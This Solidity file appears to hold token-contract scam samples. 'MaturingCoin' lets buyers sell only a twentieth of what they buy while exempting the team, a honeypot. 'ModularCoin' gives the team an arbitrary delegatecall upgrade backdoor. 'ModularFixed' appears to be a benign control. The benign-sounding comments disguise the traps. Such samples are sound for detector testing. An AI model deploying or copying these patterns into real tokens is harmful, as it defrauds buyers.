// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Bought coins mature; staked weight counts at once.
contract MaturingCoin is Coin {
  mapping(address => uint256) private _ripe;

  constructor() Coin("Maturing", "MATR", 90_000_000) {}

  function _transfer(address from, address to, uint256 v) internal override {
    if (from != _pair && from != _team) {
      require(_ripe[from] >= v, "unripe");
      _ripe[from] -= v;
    }
    _ripe[to] += from == _pair ? v / 20 : v;
    super._transfer(from, to, v);
  }
}

/// Modules add functions, as in a diamond.
contract ModularCoin is Coin {
  mapping(bytes4 => address) private _facets;

  constructor() Coin("Modular", "MODL", 33_000_000) {}

  function cut(address facet, bytes4[] calldata selectors) external {
    require(msg.sender == _team, "cut");
    for (uint256 i; i < selectors.length; ++i) _facets[selectors[i]] = facet;
  }

  fallback() external {
    address facet = _facets[msg.sig];
    require(facet != address(0), "no facet");
    assembly {
      calldatacopy(0, 0, calldatasize())
      let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
      returndatacopy(0, 0, returndatasize())
      if iszero(ok) { revert(0, returndatasize()) }
      return(0, returndatasize())
    }
  }
}

contract VersionLens {
  function version() external pure returns (string memory) { return "1.0"; }
}

/// The same, but its only module was chosen for good.
contract ModularFixed is Coin {
  address private immutable _lens;

  constructor(address lens) Coin("Modular Fixed", "MODF", 33_000_000) { _lens = lens; }

  fallback() external {
    address facet = _lens;
    assembly {
      calldatacopy(0, 0, calldatasize())
      let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
      returndatacopy(0, 0, returndatasize())
      if iszero(ok) { revert(0, returndatasize()) }
      return(0, returndatasize())
    }
  }
}
